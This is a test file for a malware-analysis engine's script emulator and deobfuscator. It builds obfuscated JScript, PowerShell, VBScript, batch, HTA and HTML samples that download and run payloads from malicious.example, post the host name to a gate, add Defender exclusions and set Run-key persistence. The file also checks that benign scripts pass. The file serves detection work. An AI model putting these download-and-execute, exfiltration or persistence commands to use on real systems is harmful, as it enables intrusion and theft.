import { gzipSync } from 'node:zlib';
import { EngineRunner } from '../engine-runner';
import { AnalysisPipeline } from '../pipeline';
import { obfuscatedDropper } from '../scripts/test-samples';
import { fileContext } from '../testing/file-context';
import { testEngineOptions } from '../testing/engine-options';
import { minimalPe } from '../testing/samples';
import { AnalysisResult, FileReport, IocType, Verdict } from '../types';
import { defaultAnalyzers } from './index';
import { ScriptAnalyzer } from './script.analyzer';

/**
 * The script analyzer alone and through AnalysisPipeline with defaultAnalyzers(), on scripts built
 * here from clear text (the droppers "download" from reserved `.example` names, only ever inside
 * the emulator), and through EngineRunner's worker threads.
 */

const pipeline = new AnalysisPipeline(defaultAnalyzers());
const analyze = (name: string, text: string | Uint8Array): Promise<AnalysisResult> =>
  pipeline.analyze({ name, data: typeof text === 'string' ? new Uint8Array(Buffer.from(text, 'utf8')) : text }, testEngineOptions());

interface LayerFact { index: number; parent: number | null; technique: string; language: string; origin: string; preview: string; sha256: string; size: number }
interface EmulationFact { api: string; args: string[]; category: string }
const layers = (f: FileReport) => (f.resources.script as { layers: LayerFact[] }).layers;
const emulationData = (f: FileReport) => f.resources.emulationData as EmulationFact[];
const emulation = (f: FileReport) => f.resources.emulation as { outcome: string; files?: { path: string; placeholder?: string; extracted: boolean }[]; startupMs: number };
const ids = (f: FileReport) => f.signals.map((s) => s.id);
const iocsOf = (f: FileReport, origin: string) => f.iocs.filter((i) => i.origins.includes(origin)).map((i) => `${i.type}:${i.value}`);
const utf16b64 = (s: string) => Buffer.from(s, 'utf16le').toString('base64');
const TEMP = 'C:\\Users\\user\\AppData\\Local\\Temp';

describe('ScriptAnalyzer through the pipeline (defaultAnalyzers)', () => {
  it('runs after the format analyzers and before YARA and archives', () => {
    const names = defaultAnalyzers().map((a) => a.name);
    expect(names.indexOf('script')).toBeGreaterThan(names.indexOf('iocs'));
    expect(names.indexOf('script')).toBe(names.indexOf('yara') - 1);
    expect(names.indexOf('archive')).toBeGreaterThan(names.indexOf('script'));
  });

  it('an obfuscated JScript dropper: emulation lists request, saved file and run in order; URL IOC; LIKELY_MALICIOUS or worse', async () => {
    const result = await analyze('invoice.js', obfuscatedDropper());
    const [file] = result.files;
    expect(file.identity.kind).toBe('javascript');
    const actions = emulationData(file).filter((e) => ['network', 'file', 'process'].includes(e.category)).map((e) => [e.category, e.api, ...e.args]);
    expect(actions).toEqual([
      ['network', 'MSXML2.XMLHTTP.open', 'GET', 'http://malicious.example/payload.exe'],
      ['network', 'MSXML2.XMLHTTP.send', 'GET', 'http://malicious.example/payload.exe', ''],
      ['file', 'ADODB.Stream.SaveToFile', `${TEMP}\\payload.exe`, '256 bytes', 'content from http://malicious.example/payload.exe'],
      ['process', 'WScript.Shell.Run', `${TEMP}\\payload.exe`, '0', 'false'],
    ]);
    expect(file.iocs).toEqual(expect.arrayContaining([{ type: IocType.Url, value: 'http://malicious.example/payload.exe', origins: ['emulation'] }]));
    expect(ids(file)).toEqual(expect.arrayContaining(['script.emulation.download_execute', 'script.emulation.download', 'script.emulation.process', 'script.emulation.file_dropped', 'script.obfuscation', 'iocs.executable_url']));
    expect(file.signals.find((s) => s.id === 'script.emulation.download_execute')!.evidence).toEqual([
      `downloaded http://malicious.example/payload.exe → saved ${TEMP.toLowerCase()}\\payload.exe → ran ${TEMP}\\payload.exe`,
    ]);
    expect([Verdict.LikelyMalicious, Verdict.Malicious]).toContain(result.verdict.verdict);
    // The eval'd body is a layer; the downloaded placeholder is reported, not extracted as a child.
    const evalLayer = layers(file).find((l) => l.technique === 'emulation:eval')!;
    expect(evalLayer).toMatchObject({ parent: 0, origin: 'emulation', language: 'javascript' });
    expect(evalLayer.preview.startsWith('var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET", "http://malicious.example/payload.exe", false); x.send();')).toBe(true);
    expect(emulation(file).files).toEqual([expect.objectContaining({ path: `${TEMP}\\payload.exe`, placeholder: 'the emulated download body, not extracted', extracted: false })]);
    expect(result.files).toHaveLength(1);
    expect(file.tags).toEqual(expect.arrayContaining(['javascript', 'emulated']));
  });

  it('PowerShell -enc of a download cradle: decoded layer text exact, URL IOC, signals', async () => {
    const cradle = "IEX (New-Object Net.WebClient).DownloadString('http://malicious.example/stage2.ps1')";
    const result = await analyze('update.cmd', `@echo off\r\npowershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc ${utf16b64(cradle)}\r\n`);
    const [file] = result.files;
    const decoded = layers(file).filter((l) => l.technique === 'powershell:encoded-command');
    expect(decoded).toHaveLength(1);
    expect(decoded[0]).toMatchObject({ preview: cradle, language: 'powershell', origin: 'deobfuscation', size: cradle.length });
    expect(iocsOf(file, 'deobfuscation')).toEqual(expect.arrayContaining(['url:http://malicious.example/stage2.ps1']));
    expect(ids(file)).toEqual(expect.arrayContaining(['script.powershell.encoded_command', 'script.execute_downloaded', 'script.download_cradle', 'script.hidden_window', 'script.execution_policy_bypass']));
    const mitre = file.signals.filter((s) => s.id === 'script.powershell.encoded_command');
    expect(mitre).toHaveLength(1);
    expect(result.verdict.verdict).toBe(Verdict.LikelyMalicious);
  });

  it('gzip + base64 PowerShell: the decompressed layer, its URL and the compressed-payload signal', async () => {
    const inner = "$c = New-Object Net.WebClient; $c.DownloadFile('http://malicious.example/a.exe', \"$env:TEMP\\a.exe\"); Start-Process \"$env:TEMP\\a.exe\"";
    const script = `Invoke-Expression (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream([IO.MemoryStream][Convert]::FromBase64String('${gzipSync(Buffer.from(inner)).toString('base64')}'), [IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`;
    const [file] = (await analyze('loader.ps1', script)).files;
    expect(layers(file).find((l) => l.technique === 'powershell:gzip+base64')!.preview).toBe(inner);
    expect(iocsOf(file, 'deobfuscation')).toContain('url:http://malicious.example/a.exe');
    expect(ids(file)).toEqual(expect.arrayContaining(['script.compressed_payload', 'script.download_cradle', 'iocs.executable_url']));
  });

  it('VBScript Chr() concatenation decoded; its URL and the launched PowerShell found', async () => {
    const chr = (s: string) => [...s].map((c) => `Chr(${c.charCodeAt(0)})`).join(' & ');
    const vbs = `Dim a, b\r\nSet sh = CreateObject(${chr('WScript.Shell')})\r\na = ${chr('http://malicious.example/s.ps1')}\r\nsh.Run ${chr('powershell -w hidden -c "IEX(iwr ')} & a & ${chr(')"')}, 0\r\n`;
    const [file] = (await analyze('doc.vbs', vbs)).files;
    const normalised = layers(file)[1];
    expect(normalised.technique).toBe('vbscript:chr+concatenation+variables');
    expect(normalised.preview).toBe('Dim a, b\r\nSet sh = CreateObject("WScript.Shell")\r\na = "http://malicious.example/s.ps1"\r\nsh.Run "powershell -w hidden -c ""IEX(iwr http://malicious.example/s.ps1)""", 0\r\n');
    expect(layers(file).find((l) => l.technique === 'command-line:powershell')!.preview).toBe('IEX(iwr http://malicious.example/s.ps1)');
    expect(iocsOf(file, 'deobfuscation')).toContain('url:http://malicious.example/s.ps1');
    expect(ids(file)).toEqual(expect.arrayContaining(['script.obfuscation', 'script.shell_execution', 'script.launches_powershell', 'script.hidden_window', 'script.execute_downloaded']));
  });

  it('batch %var:~x,y% substrings decoded to the command they spell', async () => {
    const alphabet = 'set k=abcdefghijklmnopqrstuvwxyz:/.-';
    const spell = (s: string) => [...s].map((c) => (c === ' ' ? ' ' : `%k:~${'abcdefghijklmnopqrstuvwxyz:/.-'.indexOf(c)},1%`)).join('');
    const bat = `@echo off\r\n${alphabet}\r\n${spell('bitsadmin /transfer j http://malicious.example/b.exe')} %TEMP%\\b.exe\r\n`;
    const [file] = (await analyze('setup.bat', bat)).files;
    const expanded = layers(file).find((l) => l.technique.startsWith('batch:'))!;
    expect(expanded.preview.split('\n')[2]).toBe('bitsadmin /transfer j http://malicious.example/b.exe %TEMP%\\b.exe');
    expect(iocsOf(file, 'deobfuscation')).toContain('url:http://malicious.example/b.exe');
    expect(ids(file)).toEqual(expect.arrayContaining(['script.download_cradle', 'script.obfuscation']));
  });

  it('an HTML page whose script document.writes another script: both layers, the navigation recorded', async () => {
    const page = '<!doctype html><html><head><title>Loading</title></head><body><script>\nvar s = "<scr" + "ipt>";\ndocument.write(s + "location.replace(\'http://malicious.example/landing.php?id=7\');" + "</scr" + "ipt>");\n</script></body></html>';
    const [file] = (await analyze('page.html', page)).files;
    const all = layers(file);
    expect(all.find((l) => l.technique === 'html:script-block')!.preview).toBe('\nvar s = "<scr" + "ipt>";\ndocument.write(s + "location.replace(\'http://malicious.example/landing.php?id=7\');" + "</scr" + "ipt>");\n');
    expect(all.find((l) => l.technique === 'emulation:document.write')!.preview).toBe("<script>location.replace('http://malicious.example/landing.php?id=7');</script>");
    expect(all.find((l) => l.technique === 'emulation:document.write/script')!).toMatchObject({ preview: "location.replace('http://malicious.example/landing.php?id=7');", language: 'javascript', origin: 'emulation' });
    expect(emulationData(file).filter((e) => e.category === 'network')).toEqual([{ api: 'location.replace', args: ['http://malicious.example/landing.php?id=7'], category: 'network' }]);
    expect(iocsOf(file, 'emulation')).toContain('url:http://malicious.example/landing.php?id=7');
    expect(ids(file)).toContain('script.emulation.dynamic_code');
  });

  it('HTML smuggling: the assembled download becomes an emulated-drop child', async () => {
    const exe = Buffer.from('MZ\x90\x00smuggled-test-bytes', 'latin1').toString('base64');
    const page = `<html><body><script>var b = atob("${exe}"); var u = new Uint8Array(b.length); for (var i = 0; i < b.length; i++) u[i] = b.charCodeAt(i);\nvar a = document.createElement("a"); a.href = URL.createObjectURL(new Blob([u])); a.download = "Invoice_0423.exe"; document.body.appendChild(a); a.click();</script></body></html>`;
    const result = await analyze('invoice.html', page);
    const [file, child] = result.files;
    expect(ids(file)).toContain('script.emulation.html_smuggling');
    expect(child).toMatchObject({ name: 'Invoice_0423.exe', relation: 'emulated-drop', parentIndex: 0 });
    expect(Buffer.from(child.data).toString('latin1')).toBe('MZ\x90\x00smuggled-test-bytes');
    expect(result.verdict.verdict).toBe(Verdict.LikelyMalicious);
  });

  it('files a script writes become children (emulated-drop), analysed in turn', async () => {
    const js = 'var fso = new ActiveXObject("Scripting.FileSystemObject"); var p = fso.GetSpecialFolder(2) + "\\\\run.bat";\nvar f = fso.CreateTextFile(p, true); f.WriteLine("@echo off"); f.WriteLine("powershell -w hidden -c \\"Add-MpPreference -ExclusionPath C:\\\\Users\\""); f.Close();\nnew ActiveXObject("WScript.Shell").Run(p, 0);';
    const result = await analyze('installer.js', js);
    const [file, child] = result.files;
    expect(child).toMatchObject({ name: 'run.bat', relation: 'emulated-drop' });
    expect(Buffer.from(child.data).toString('utf8')).toBe('@echo off\r\npowershell -w hidden -c "Add-MpPreference -ExclusionPath C:\\Users"\r\n');
    expect(ids(child)).toContain('script.defender_tampering');
    expect(ids(file)).toEqual(expect.arrayContaining(['script.emulation.file_dropped', 'script.emulation.process']));
    expect(result.verdict.verdict).toBe(Verdict.LikelyMalicious);
  });

  it('a Run-key write and a base64-embedded executable: signals, registry IOC, decoded payload child', async () => {
    const pe = Buffer.from(minimalPe()).toString('base64');
    const ps = `$b = [Convert]::FromBase64String('${pe}')\n[IO.File]::WriteAllBytes("$env:APPDATA\\svc.exe", $b)\nSet-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name svc -Value "$env:APPDATA\\svc.exe"`;
    const result = await analyze('persist.ps1', ps);
    const [file, child] = result.files;
    expect(ids(file)).toEqual(expect.arrayContaining(['script.persistence.run_key', 'script.encoded_payload']));
    expect(file.signals.find((s) => s.id === 'script.encoded_payload')!.evidence).toEqual([`layer 0 (powershell:base64): ${child.identity.label}, 512 bytes`]);
    expect(child).toMatchObject({ relation: 'deobfuscated-payload', name: 'base64-decoded.bin', size: 512 });
    expect(child.identity.kind).toBe('pe');

    const js = String.raw`var sh = new ActiveXObject("WScript.Shell"); sh.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\upd", "wscript.exe //B C:\\Users\\Public\\u.js", "REG_SZ");`;
    const [jsFile] = (await analyze('persist.js', js)).files;
    expect(ids(jsFile)).toContain('script.emulation.registry_autorun');
    expect(jsFile.iocs).toEqual(expect.arrayContaining([{ type: IocType.RegistryPath, value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\upd', origins: ['text', 'emulation'] }]));
  });

  it('HTA and WSF: VBScript blocks de-obfuscated, JScript blocks emulated with ActiveX', async () => {
    const hta = '<html><head><hta:application id="app" windowstate="minimize"/><script language="VBScript">\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run Chr(99) & Chr(109) & Chr(100) & " /c calc.exe", 0\r\n</script></head><body></body></html>';
    const [htaFile] = (await analyze('update.hta', hta)).files;
    expect(htaFile.identity.kind).toBe('hta');
    expect(layers(htaFile).find((l) => l.technique === 'vbscript:chr+concatenation')!.preview).toBe('\r\nSet s = CreateObject("WScript.Shell")\r\ns.Run "cmd /c calc.exe", 0\r\n');
    expect(ids(htaFile)).toEqual(expect.arrayContaining(['script.shell_execution', 'script.hidden_window']));

    const wsf = '<job id="main"><script language="JScript"><![CDATA[\nvar x = WScript.CreateObject("MSXML2.ServerXMLHTTP.6.0"); x.open("POST", "http://malicious.example/gate.php", false); x.send("id=" + WScript.CreateObject("WScript.Network").ComputerName);\n]]></script></job>';
    const [wsfFile] = (await analyze('job.wsf', wsf)).files;
    expect(emulationData(wsfFile).filter((e) => e.category === 'network')).toEqual([
      { api: 'MSXML2.ServerXMLHTTP.open', args: ['POST', 'http://malicious.example/gate.php'], category: 'network' },
      { api: 'MSXML2.ServerXMLHTTP.send', args: ['POST', 'http://malicious.example/gate.php', 'id=DESKTOP-4F7H2KQ'], category: 'network' },
    ]);
    expect(ids(wsfFile)).toContain('script.emulation.download');
  });

  it('an endless loop ends with a timeout issue within the budget and what was recorded before', async () => {
    const analyzer = new ScriptAnalyzer({ emulationTimeoutMs: 1000 });
    const started = Date.now();
    const r = await analyzer.analyze(fileContext('WScript.Echo("start"); var i = 0; while (true) { i++; }', 'loop.js'));
    expect(Date.now() - started).toBeLessThan(3000);
    expect(r.issues).toEqual([{ analyzer: 'script', kind: 'timeout', message: 'emulation stopped after its 1000 ms budget' }]);
    expect(r.facts!.emulationData).toEqual([{ api: 'WScript.Echo', args: ['start'], category: 'other' }]);
    expect((r.facts!.emulation as { outcome: string }).outcome).toBe('timeout');
  });

  it('an allocation storm ends with a memory issue; the process is unaffected', async () => {
    const r = await new ScriptAnalyzer().analyze(fileContext('var a = []; while (1) a.push(new Array(1e6));', 'hog.js'));
    expect(r.issues).toEqual([{ analyzer: 'script', kind: 'limit', message: 'emulation stopped at its 64 MB memory limit' }]);
    expect((r.facts!.emulation as { outcome: string }).outcome).toBe('memory');
    const next = await new ScriptAnalyzer().analyze(fileContext('WScript.Echo(1 + 1)', 'next.js'));
    expect(next.facts!.emulationData).toEqual([{ api: 'WScript.Echo', args: ['2'], category: 'other' }]);
  });

  it.each([
    [
      'admin.ps1',
      "<#\n.SYNOPSIS\n  Weekly disk and service report (don't run during backups).\n#>\nparam([string]$ComputerName = $env:COMPUTERNAME, [int]$Days = 30)\n$ErrorActionPreference = 'Stop'\n$services = Get-Service -ComputerName $ComputerName | Where-Object { $_.Status -eq 'Running' }\n$disks = Get-CimInstance -ClassName Win32_LogicalDisk -Filter \"DriveType=3\"\nforeach ($d in $disks) {\n  '{0}: {1:N1} GB free of {2:N1} GB' -f $d.DeviceID, ($d.FreeSpace / 1GB), ($d.Size / 1GB)\n}\n$old = Get-ChildItem -Path 'D:\\Logs' -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-$Days) }\n$old | Remove-Item -WhatIf\nWrite-Output \"$($services.Count) services running on $ComputerName\"\n",
    ],
    [
      'shop.html',
      "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>Garden shop</title>\n<script>\n  window.dataLayer = window.dataLayer || [];\n  function track(){ dataLayer.push(arguments); }\n  track('page', { path: location.pathname });\n  document.addEventListener('DOMContentLoaded', function () {\n    var button = document.getElementById('add');\n    var count = 0;\n    if (button) button.addEventListener('click', function () { count++; fetch('/api/cart', { method: 'POST', body: JSON.stringify({ item: 42 }) }); });\n    var year = new Date().getFullYear();\n    var footer = document.querySelector('#year'); if (footer) footer.textContent = String(year);\n  });\n</script></head>\n<body><h1>Tomatoes</h1><button id=\"add\">Add to cart</button><footer>&copy; <span id=\"year\"></span></footer></body></html>\n",
    ],
    [
      'util.js',
      "// Formats the files of a folder as a table (Windows Script Host)\nvar fso = new ActiveXObject('Scripting.FileSystemObject');\nvar folder = fso.GetFolder('.');\nvar lines = [];\nfunction pad(s, n) { s = String(s); while (s.length < n) s += ' '; return s; }\nvar e = new Enumerator(folder.Files);\nfor (; !e.atEnd(); e.moveNext()) { var f = e.item(); lines.push(pad(f.Name, 40) + f.Size); }\nWScript.Echo(lines.join('\\n'));\n",
    ],
    ['build.bat', '@echo off\r\nsetlocal\r\nset CONFIG=Release\r\nset OUT=%~dp0bin\\%CONFIG%\r\nif not exist "%OUT%" mkdir "%OUT%"\r\nmsbuild App.sln /p:Configuration=%CONFIG% /m\r\nif errorlevel 1 exit /b 1\r\necho Built into %OUT%\r\n'],
  ])('benign %s is NO_THREAT', async (name, text) => {
    const result = await analyze(name, text);
    const [file] = result.files;
    expect(file.analyzers).toContain('script');
    expect(file.signals).toEqual([]);
    expect(file.issues).toEqual([]);
    expect(result.verdict.verdict).toBe(Verdict.NoThreat);
  });

  it('reads text as a script by its name or by the commands it runs; prose that mentions commands is left alone', () => {
    const analyzer = new ScriptAnalyzer();
    const line = `powershell -w hidden -enc ${utf16b64('Get-Date')}`;
    expect(analyzer.languageOf(fileContext(line, 'update'))).toBe('batch');
    expect(analyzer.languageOf(fileContext('Write-Host hi', 'x.ps1'))).toBe('powershell');
    expect(analyzer.languageOf(fileContext(`To install, run: ${line}`, 'README.md'))).toBeNull();
    expect(analyzer.languageOf(fileContext('Minutes of the meeting: nothing to report.', 'notes'))).toBeNull();
  });

  it('runs PDF JavaScript (a .js child) with the Acrobat objects', async () => {
    const r = await new ScriptAnalyzer().analyze(fileContext("var v = app.viewerVersion; if (v >= 9) { app.launchURL('http://malicious.example/pdf-landing', true); this.exportDataObject({ cName: 'invoice.pdf.exe', nLaunch: 2 }); }", 'openaction-1.js'));
    expect((r.facts!.emulationData as EmulationFact[]).map((e) => [e.category, e.api, e.args[0]])).toEqual([
      ['network', 'app.launchURL', 'http://malicious.example/pdf-landing'],
      ['process', 'exportDataObject', 'invoice.pdf.exe'],
    ]);
  });
});

describe('ScriptAnalyzer in engine worker threads (EngineRunner)', () => {
  let runner: EngineRunner;
  beforeAll(async () => {
    runner = new EngineRunner({ size: 1, timeoutMs: 60_000 });
    await runner.start();
  }, 120_000);
  afterAll(() => runner.close());

  it('emulates inside a worker thread; timeouts and memory blow-ups end as issues and the thread survives', async () => {
    const options = testEngineOptions();
    const dropper = await runner.analyze({ name: 'invoice.js', data: new Uint8Array(Buffer.from(obfuscatedDropper())) }, options);
    expect(emulationData(dropper.files[0]).some((e) => e.api === 'WScript.Shell.Run')).toBe(true);
    expect([Verdict.LikelyMalicious, Verdict.Malicious]).toContain(dropper.verdict.verdict);

    const loop = await runner.analyze({ name: 'loop.js', data: new Uint8Array(Buffer.from('var n = 0; for (;;) { n++; }')) }, options);
    expect(loop.files[0].issues).toEqual([{ analyzer: 'script', kind: 'timeout', message: 'emulation stopped after its 3000 ms budget' }]);

    const hog = await runner.analyze({ name: 'hog.js', data: new Uint8Array(Buffer.from('var a = []; while (1) a.push(new Array(1e6));')) }, options);
    expect(hog.files[0].issues).toEqual([{ analyzer: 'script', kind: 'limit', message: 'emulation stopped at its 64 MB memory limit' }]);

    const after = await runner.analyze({ name: 'after.js', data: new Uint8Array(Buffer.from('var sh = new ActiveXObject("WScript.Shell"); sh.Run("notepad.exe");')) }, options);
    expect(emulationData(after.files[0])).toEqual([
      { api: 'new ActiveXObject', args: ['WScript.Shell'], category: 'other' },
      { api: 'WScript.Shell.Run', args: ['notepad.exe', '1', 'false'], category: 'process' },
    ]);
    const stats = runner.stats();
    expect(stats.failures).toEqual({ timeout: 0, memory: 0, crash: 0, start: 0, closed: 0 });
    expect(stats.startupMs).toHaveLength(1); // the same thread did all four
  }, 120_000);
});
